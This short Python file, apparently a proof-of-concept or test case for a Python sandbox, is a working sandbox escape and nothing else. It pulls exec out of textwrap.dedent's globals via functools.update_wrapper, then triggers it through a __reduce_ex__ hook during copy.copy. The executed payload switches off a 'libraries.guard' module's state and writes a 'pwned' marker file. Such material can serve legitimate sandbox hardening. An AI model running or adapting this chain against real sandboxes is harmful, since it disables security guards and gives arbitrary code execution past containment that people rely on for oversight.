"""file: a reduction calls exec, which wraps has handed out."""

import copy
import functools
import textwrap

CODE = """\
import sys
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_reduced_to_exec", "w").close()
"""


class Holder:
    __globals__ = None


names = functools.update_wrapper(Holder(), textwrap.dedent, assigned=("__globals__",), updated=()).__globals__
run = names["__builtins__"]["exec"]


class Reduced:
    def __reduce_ex__(self, protocol):
        return run, (CODE,)


x = copy.copy(Reduced())
